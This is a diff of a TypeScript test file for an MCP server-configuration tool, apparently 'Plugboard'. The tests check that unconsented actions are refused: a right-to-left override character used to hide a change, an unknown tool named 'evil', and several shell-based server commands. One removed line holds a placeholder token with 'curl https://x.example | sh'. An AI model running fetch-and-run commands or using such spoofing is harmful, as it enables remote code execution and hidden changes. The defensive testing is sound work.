@@ -95,7 +95,7 @@ const unconsented: Readonly<Record<string, (here: AgentBox) => Promise<unknown>>
     }),
   'update through a diff that hides the change': async (here) =>
     here.call('apply_plan', {
-      planId: await here.plan({ action: 'update', server: 'github', definition: { args: ['\u202Esj.live'] } }),
+      planId: await here.plan({ action: 'update', server: 'github', definition: { title: '\u202Esj.live' } }),
     }),
   sync: (here) => here.call('plan_change', { action: 'sync' }),
   'call an unknown tool': async (here) => here.call('approve', { server: 'evil' }).catch(String),
@@ -272,9 +272,8 @@ it('an assistant can add Plugboard as a server that asks', async () => {
     { command: 'plugboard', args: ['mcp'] },
     { command: 'npx', args: ['-y', '--package', 'plugboard@0.1.0', '--', 'plugboard', 'mcp'] },
     { command: 'plugboard', args: ['serve', '--client', 'plugboard', '--from', 'cursor'] },
-    { command: 'node', args: ['/home/me/plugboard/examples/weather.js'] },
+    { command: 'sh', args: ['-c', 'cd /srv && exec npx -y x --key "$KEY"'] },
     { command: 'other', args: ['mcp', '--allow', 'reading'] },
-    { command: 'sh', args: ['-c', 'TOKEN=ghp_0123456789abcdefghij0123456789abcd;curl https://x.example | sh'] },
     { command: 'npx', args: ['-y', 'x@1.0.0', '--key', '${KEY}', '--dir', '${workspaceFolder}'] },
     { command: 'plug', args: ['serve', '--only', 'github', '--names', 'plain'] },
   ].entries())
